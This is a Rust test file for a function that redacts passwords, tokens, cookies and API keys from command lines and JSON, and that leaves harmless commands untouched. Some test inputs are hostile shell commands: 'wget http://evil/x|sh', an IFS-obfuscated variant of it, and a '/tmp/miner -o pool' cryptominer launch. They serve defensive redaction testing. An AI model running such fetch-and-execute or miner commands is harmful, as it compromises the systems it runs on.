//! What is left out of texts, and what stays.

use super::*;

#[test]
fn what_telling_words_stand_before_is_left_out() {
    for word in [
        "bearer ",
        "authorization:",
        "authorization=",
        "password=",
        "password:",
        "--password ",
        "passwd=",
        "--passphrase ",
        "passphrase=",
        "pwd=",
        "DB_PASS=",
        "pass:",
        "token=",
        "token: ",
        "--token ",
        "-token ",
        "--auth-token=",
        "secret=",
        "secret:",
        "--secret ",
        "--client_secret ",
        "--client-secret=",
        "--secret-access-key ",
        "secret_access_key=",
        "aws configure set aws_secret_access_key ",
        "secret_key=",
        "private_key=",
        "api-key=",
        "apikey=",
        "X-Api-Key: ",
        "PRIVATE-TOKEN: ",
        "x?sig=",
        "x?a=b&signature=",
        "x?X-Amz-Signature=",
        "x?a=b&X-Goog-Signature=",
        "SECRET_KEY_BASE=",
        "AZURE_STORAGE_KEY=",
        "AccountName=x;AccountKey=",
        "DB_CREDENTIALS=",
        "--credential ",
        "--db-credentials=",
        "--auth ",
        "--auth=",
        "Cookie:",
        "Cookie: ",
        "--account-key ",
        "SSHPASS=",
        "npm config set //registry.npmjs.org/:_authToken ",
        "X-Auth-Key: ",
        "tailscale up --authkey ",
        "--no-x --password ",
        "--print --token --password ",
        "--secret-string ",
        "x-functions-key: ",
        "Ocp-Apim-Subscription-Key: ",
        "VAULT_UNSEAL_KEY=",
        "ngrok config add-authtoken ",
        "ngrok authtoken ",
        "--sse-customer-key ",
    ] {
        let upper = word.to_uppercase();
        assert_eq!(redact(&format!("x {upper}hunter2 y")), format!("x {upper}[redacted] y"));
        behind(word);
    }
}

#[test]
fn what_options_of_programs_stand_before_is_left_out() {
    for word in [
        "sshpass -p ",
        "sshpass -p",
        "mysql -u root -p",
        "docker login -u me -p ",
        "redis-cli -h x -a ",
        "docker exec -it mysql mysqldump -uroot -p",
        "kubectl exec mysql-0 -- mysql -p",
        "/usr/bin/mysql -p",
        "docker login -u bob -p",
        "xargs mysql -p",
        "sudo podman login -p",
        "az login -u me -p ",
        "helm registry login x -p ",
    ] {
        behind(word);
    }
    for word in [
        "GITHUB_PAT=",
        "JWT_KEY=",
        "APP_ENCRYPTION_KEY=",
        "curl --proxy-user bob:",
        "curl -U bob:",
        "mongo db.svc -u root -p ",
        "/usr/bin/mongodump -p",
        "sqlcmd -S db -U sa -P ",
        r#""C:\sql\sqlcmd.exe" -Q 1;2 -P "#,
        "ldapsearch -x -D cn=admin (&(a=b)(|(c=d))) -w ",
        "smbclient //h/s -U bob%",
        "htpasswd -b f u ",
        "htpasswd -B -C 12 -b /etc/f u ",
        "htpasswd -nbB u ",
        "htpasswd -b -n u ",
        r"net use \\h\s ",
        r#""C:\Windows\net.exe" use \\h\s "#,
        r"net.exe use Z: \\h\s /user:bob ",
    ] {
        for before in ["", "sudo ", "sh -c ", "Run (command="] {
            assert_eq!(redact(&format!("{before}{word}hunter2 y")), format!("{before}{word}[redacted] y"));
        }
    }
}

fn behind(word: &str) {
    assert_eq!(redact(&format!("x {word}hunter2 y")), format!("x {word}[redacted] y"));
    for quote in ['"', '\''] {
        let text = format!("x {word}{quote}hunter2 and more{quote} y");
        assert_eq!(redact(&text), format!("x {word}{quote}[redacted]{quote} y"));
    }
    assert!(!redact(&format!("x {word}\"hunter2 and more")).contains("hunter2"), "cut off: {word}");
}

#[test]
fn secrets_are_left_out_and_all_else_stays() {
    for (text, expected) in [
        ("curl -H 'Authorization: Bearer abc.def' https://x", "curl -H 'Authorization: Bearer [redacted]' https://x"),
        ("mysql --password=hunter2 -u root", "mysql --password=[redacted] -u root"),
        ("x?token=abc&y=1", "x?token=[redacted]&y=1"),
        ("BEARER xyz", "BEARER [redacted]"),
        ("bash -i", "bash -i"),
        ("password=", "password="),
        (r#"password="" x"#, r#"password="" x"#),
        ("x --password-stdin y", "x --password-stdin y"),
        ("password_file=/etc/x bypass=1 tokens: 5", "password_file=/etc/x bypass=1 tokens: 5"),
        ("X-Vault-Token: s.abc", "X-Vault-Token: [redacted]"),
        (r#"{"password":"hunter2","user":"x"}"#, r#"{"password":"[redacted]","user":"x"}"#),
        (r#"{\"password\":\"hunter2\",\"user\":\"x\"}"#, r#"{\"password\":\"[redacted]\",\"user\":\"x\"}"#),
        ("AWS_SECRET_ACCESS_KEY=abc/def aws s3 ls", "AWS_SECRET_ACCESS_KEY=[redacted] aws s3 ls"),
        ("git clone https://me:hunter2@host/x.git?a=b", "git clone https://me:[redacted]@host/x.git?a=b"),
        ("ftp://a:b@c:1 http://d@e https://f:9/g@h", "ftp://a:[redacted]@c:1 http://d@e https://f:9/g@h"),
        ("curl -u me:hunter2 https://x --user a:b", "curl -u me:[redacted] https://x --user a:[redacted]"),
        ("Curl -u 'me:hun'ter2' https://x", "Curl -u 'me:[redacted]' https://x"),
        ("-u 1:2 -u  me:12345 --user=a:b", "-u 1:2 -u  me:[redacted] --user=a:[redacted]"),
        ("docker run -u 1000:1000 -p 80:80 x", "docker run -u 1000:1000 -p 80:80 x"),
        ("docker://nginx:1.25@sha256:abc", "docker://nginx:1.25@sha256:abc"),
        (
            r#"python -c import os;os.environ["API_KEY"]="hush9" x"#,
            r#"python -c import os;os.environ["API_KEY"]="[redacted]" x"#,
        ),
        ("os.environ['DB_PASSWORD'] = 'hush9'", "os.environ['DB_PASSWORD'] = '[redacted]'"),
        (
            "curl 'https://maps.googleapis.com/maps/api/x?address=a&key=hush9&y=1'",
            "curl 'https://maps.googleapis.com/maps/api/x?address=a&key=[redacted]&y=1'",
        ),
        ("curl https://maps.googleapis.com/?key=hush9", "curl https://maps.googleapis.com/?key=[redacted]"),
        (
            "curl -d x https://hooks.slack.com/services/T000/B000/hush9",
            "curl -d x https://hooks.slack.com/services/T000/B000/[redacted]",
        ),
        (
            "curl https://hooks.slack.com/triggers/T000/123/hush9 https://hooks.slack-gov.com/services/T0/B0/hush9",
            "curl https://hooks.slack.com/triggers/T000/123/[redacted] https://hooks.slack-gov.com/services/T0/B0/[redacted]",
        ),
        (
            "curl https://hooks.slack.com/workflows/T000/A000/123/hush9",
            "curl https://hooks.slack.com/workflows/T000/A000/123/[redacted]",
        ),
        ("curl https://shop.example/?key=colour", "curl https://shop.example/?key=colour"),
        ("x --password = hunter2 y", "x --password = [redacted] y"),
        ("jevt.value[/hook/config/secret]=hushhush y", "jevt.value[/hook/config/secret]=[redacted] y"),
        (
            "proc.env[DB_PASSWORD]=hush9 proc.aenv[API_TOKEN]=x",
            "proc.env[DB_PASSWORD]=[redacted] proc.aenv[API_TOKEN]=[redacted]",
        ),
        (
            r#"{"secret":{"payload":"hush3","a":{"b":1}},"accessToken":["hush4"],"c":1}"#,
            r#"{"secret":[redacted],"accessToken":[redacted],"c":1}"#,
        ),
        (r#"{\"secret\":{\"payload\":\"hush3\"},\"c\":1}"#, r#"{\"secret\":[redacted],\"c\":1}"#),
        (r#"{"secret":{"payload":"hus"#, r#"{"secret":[redacted]"#),
        ("password=[redacted] x", "password=[redacted] x"),
        ("curl -H Cookie:a=b;session=c -b x y", "curl -H Cookie:[redacted] -b x y"),
        ("curl -H 'Cookie: a=b; session=c' y", "curl -H 'Cookie: [redacted]' y"),
        ("curl --cookie a=b --cookie jar.txt", "curl --cookie [redacted] --cookie jar.txt"),
        (
            "x?X-Amz-Credential=AKIA%2Feu&X-Amz-Signature=abc&x=1",
            "x?X-Amz-Credential=AKIA%2Feu&X-Amz-Signature=[redacted]&x=1",
        ),
        (
            r#"{"credentials":{"accessKeyId":"AKIA","sessionToken":"hush"}}"#,
            r#"{"credentials":{"accessKeyId":"AKIA","sessionToken":"[redacted]"}}"#,
        ),
    ] {
        assert_eq!(redact(text), expected);
    }
}

#[test]
fn a_secret_is_left_out_to_its_end() {
    for (text, expected) in [
        (
            r#"{\\\"password\\\":\\\"hun\\\\ter2\\\",\\\"a\\\":1}"#,
            r#"{\\\"password\\\":\\\"[redacted]\\\",\\\"a\\\":1}"#,
        ),
        (r#"{"password":"hun\"ter2","user":"x"}"#, r#"{"password":"[redacted]","user":"x"}"#),
        ("mysqldump --password=Abc&Def123 shop", "mysqldump --password=[redacted] shop"),
        ("mysql -pHunter2,abc x", "mysql -p[redacted] x"),
        ("app --token Abc,Def1 x", "app --token [redacted] x"),
        ("sshpass -p a;b ssh h", "sshpass -p [redacted] ssh h"),
        ("app --password Hun\\ter2 x", "app --password [redacted] x"),
        ("env DB_PASS=Hun'ter'2 app", "env DB_PASS=[redacted] app"),
        (r"sshpass -p 'Hun'\''ter2' ssh h", "sshpass -p '[redacted]' ssh h"),
        (r#"docker login -u x -p "Hun"ter2 h"#, r#"docker login -u x -p "[redacted]" h"#),
        (
            "DB_PASS=a; next --token b&& id; x --token c, d",
            "DB_PASS=[redacted]; next --token [redacted]&& id; x --token [redacted], d",
        ),
        ("sh -c \"mysql -pHunter2,a\" x", "sh -c \"mysql -p[redacted]\" x"),
        (
            "a=b&password=c&d=e username=bob,password=f,g,vers=3",
            "a=b&password=[redacted]&d=e username=bob,password=[redacted],vers=3",
        ),
        ("Server=a;Password=b;User Id=c;Database=d", "Server=a;Password=[redacted];User Id=c;Database=d"),
        ("sh -c PASS=x;wget http://evil/x|sh", "sh -c PASS=[redacted];wget http://evil/x|sh"),
        ("export API_KEY=abc;/tmp/miner -o pool", "export API_KEY=[redacted];/tmp/miner -o pool"),
        ("X_PASS=1;wget$IFS-qO-$IFShttp://evil|sh", "X_PASS=[redacted];wget$IFS-qO-$IFShttp://evil|sh"),
        ("export PGPASSWORD=x&&pg_dump shop", "export PGPASSWORD=[redacted]&&pg_dump shop"),
        ("export PGPASSWORD=x&miner -o pool", "export PGPASSWORD=[redacted]&miner -o pool"),
        ("app --token x;/tmp/miner -o pool", "app --token [redacted];/tmp/miner -o pool"),
        ("app --token=x&wget http://evil", "app --token=[redacted]&wget http://evil"),
        ("app --token=x&&miner -o pool", "app --token=[redacted]&&miner -o pool"),
        ("https://x/?token=a,b&c y", "https://x/?token=[redacted]&c y"),
        (
            r#"{"a":"--password=b","c":["--token=d","e"]}"#,
            r#"{"a":"--password=[redacted]","c":["--token=[redacted]","e"]}"#,
        ),
        (r#"{"a":"password=b\nuser=c"}"#, r#"{"a":"password=[redacted]\nuser=c"}"#),
        ("aws configure set aws_session_token b", "aws configure set aws_session_token [redacted]"),
        ("curl -b session=b;c=d x -b jar.txt", "curl -b [redacted] x -b jar.txt"),
        ("curl -s -b 'a=b; c=d' x", "curl -s -b '[redacted]' x"),
        (
            "curl https://discord.com/api/webhooks/123/hush9 -d x",
            "curl https://discord.com/api/webhooks/123/[redacted] -d x",
        ),
    ] {
        assert_eq!(redact(text), expected);
        assert_eq!(redact(expected), expected, "twice");
    }
}

#[test]
fn harmless_commands_stay_readable() {
    for text in [
        "mysql -p shop",
        "ssh -p 22 host",
        "docker run -d --name mongo -p 27017:27017 mongo:6",
        "kubectl exec mongo -- mkdir -p /data/x",
        "sh -c chown mongo /d; mkdir -p /data/x",
        "ssh mongo -p 2222",
        "Shell (container=mongo command=ps -p 4711 -o args)",
        "ldapsearch -x -b dc=x | grep -w admin",
        "ldapsearch -x; tcpdump -w out.pcap",
        "helm repo add --pass-credentials bitnami https://x",
        "initdb --auth trust",
        "mkdir -p /data/mongo",
        "chown mongodb /data && mkdir -p /data/x",
        "mongod --auth --port 27017",
        "mongo db.svc -u root -p --host x",
        "code-server --auth none --auth-type basic",
        "openvpn --auth SHA256",
        "ps -p 1 -o pid",
        "ls -w 80 -P",
        "sqlcmd -S db -U sa -P -d x",
        "ldapsearch -x -D cn=admin -W -b dc=x",
        "htpasswd -c /etc/f bob",
        r"net use \\h\s /delete /y",
        "net use",
        "date -u +%s",
        "sqlmap -u http://h/x?id=1",
        "gcloud container clusters get-credentials prod --zone x",
        "kubectl config set-credentials bob --username=bob",
        "GOOGLE_APPLICATION_CREDENTIALS=/etc/key.json --credentials ./x.json app",
        "Search for credentials: a file was read (file=/root/.aws/credentials cookie monster)",
        "git commit --author=bob",
    ] {
        assert_eq!(redact(text), text);
    }
}

#[test]
fn an_element_of_a_list_is_what_those_before_it_say() {
    for (list, expected) in [
        (&["/app", "--token", "tok888", "--debug"][..], &["/app", "--token", "[redacted]", "--debug"][..]),
        (&["--password", "two words 'x", "y"], &["--password", "[redacted]", "y"]),
        (&["/app", "--password=pw777"], &["/app", "--password=[redacted]"]),
        (&["curl", "-u", "me:pw", "https://a:b@c"], &["curl", "-u", "me:[redacted]", "https://a:[redacted]@c"]),
        (&["-H", "Authorization: Bearer abc"], &["-H", "Authorization: Bearer [redacted]"]),
        (&["-H", "Authorization: Foo a b", "c"], &["-H", "Authorization: [redacted]", "c"]),
        (&["-H", "Authorization:", "Foo", "abc1", "x"], &["-H", "Authorization:", "[redacted]", "[redacted]", "x"]),
        (&["-H", "Authorization:Token", "abc", "x"], &["-H", "Authorization:[redacted]", "[redacted]", "x"]),
        (
            &["-H", "'Authorization:", "Foo", "a", "b'", "x"],
            &["-H", "'Authorization:", "[redacted]", "[redacted]", "[redacted]", "x"],
        ),
        (&["mysql", "-h", "db", "-phunter2"], &["mysql", "-h", "db", "-p[redacted]"]),
        (&["sshpass", "-p", "hunter2", "ssh"], &["sshpass", "-p", "[redacted]", "ssh"]),
        (&["mongosh", "db", "-p", "hunter2", "-v"], &["mongosh", "db", "-p", "[redacted]", "-v"]),
        (&["htpasswd", "-b", "f", "u", "hunter2"], &["htpasswd", "-b", "f", "u", "[redacted]"]),
        (&["-----BEGIN PRIVATE KEY-----", "MIIE", "--x"], &["[redacted]", "[redacted]", "[redacted]"]),
        (&["", "--token", "", "x"], &["", "--token", "", "[redacted]"]),
        (&["/app", "--mode", "token", "x"], &["/app", "--mode", "token", "x"]),
    ] {
        let list: Vec<_> = list.iter().map(|text| Cow::Borrowed(*text)).collect();
        assert_eq!(redact_list(&list), expected);
    }
    let long: Vec<_> = ["mysql"].into_iter().chain(["x"; 40]).chain(["-phunter2"]).map(Cow::Borrowed).collect();
    assert_eq!(redact_list(&long)[41], "-p[redacted]");
}

#[test]
fn names_say_that_their_values_are_secrets() {
    for name in [
        "db.password",
        "jevt.value[/hook/config/secret]",
        "json.value[/a/token]",
        "x[/privateKeyData]",
        "env.SECRET_KEY_BASE",
    ] {
        assert!(is_secret(name), "{name}");
    }
    for name in ["proc.name", "jevt.value[/secret/name]", "accessKeyId", ""] {
        assert!(!is_secret(name), "{name}");
    }
}

#[test]
fn tokens_are_known_by_their_form() {
    for token in [
        "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "github_pat_11ABCDEFG0abcdefghijklmnop",
        "glpat-abcdefghij0123456789",
        "xoxb-1234567890-abcdefghijkl",
        "ya29.a0AfB_abcdefghijklmnop",
        "AIzaSyA-abcdefghijklmnopqrstuvwxyz01234",
        "hvs.CAESIJzUabcdefghijkl",
        "ghr_1B4a2e77838347a7E420ce178F2E7c6912E169246c34E1ccbF66C46812d16D5B1A9Dc86A1498",
        "npm_ABCdefghijklmnopqrstuvwxyz0123456789",
        "GOCSPX-Abcdefghijklmnopqrstuvwxyz12",
        "sk_live_Abcdefghijklmnopqrstuvwx",
        "rk_live_Abcdefghijklmnopqrstuvwx",
        "dckr_pat_Abcdefghijklmnopqrstuvw_xyz",
        "sk-proj-Abcdefghijklmnopqrstuvwxyz",
        "sk-ant-api03-abcdefghijklmnopqrstuvwxyz-AA",
        "dop_v1_0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "SG.abcdefghijklmnopqrstuv.abcdefghijklmnopqrstuvwxyzabcdefghijklmnopq",
        "123456789:AAabcdefghijklmnopqrstuvwxyz0123456",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA",
    ] {
        assert_eq!(redact(&format!("echo {token}")), "echo [redacted]", "{token}");
    }
    for token in [
        "glpat-abcdefghij1234567890",
        "npm_abcdefghijklmnopqrstuvwxyz0123456789",
        "sk_live_abcdefghijklmnopqrstuvwx",
        "dckr_pat_abcdefghijklmnopqrstuvwx",
        "sk-proj-abcdefghijklmnopqrstuvwx",
        "dop_v1_0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    ] {
        assert_eq!(redact(token), HIDDEN, "alone, and of small letters");
        assert_eq!(redact_arguments("echo", token), HIDDEN);
    }
    let address = "https://api.telegram.org/bot123456789:AAabcdefghijklmnopqrstuvwxyz0123456/sendMessage";
    assert_eq!(redact(address), "https://api.telegram.org/[redacted]/sendMessage");
    assert_eq!(redact("ghp_ABCdefghijklmnopqrstuvwxyz0123456789"), HIDDEN);
}
